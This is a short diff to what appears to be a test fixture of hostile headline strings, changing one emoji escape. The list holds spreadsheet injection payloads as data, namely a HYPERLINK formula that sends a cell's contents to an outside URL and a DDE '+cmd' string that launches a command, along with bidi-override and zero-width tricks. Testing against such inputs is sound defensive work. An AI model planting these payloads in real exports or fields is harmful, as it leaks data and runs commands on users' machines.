@@ -82,7 +82,7 @@ HOSTILE_HEADLINES = (
     '=HYPERLINK("https://example.invalid/?x="&A1,"{title} at {company}")',
     "+cmd|' /C calc'!A0 {title}, {company}",
     "{title}\x00 at {company}",
-    "{title} at {company} \ud83d\ude80 and a half \ud83d",
+    "{title} at {company} \U0001f680 and a half \ud83d",
     "\u202e{title}\u202c at \u2066{company}\u2069",
     "{title}\u200b\u200d at\u2060 {company}\ufeff",
     "{title} at {company} " + "growth " * 66,
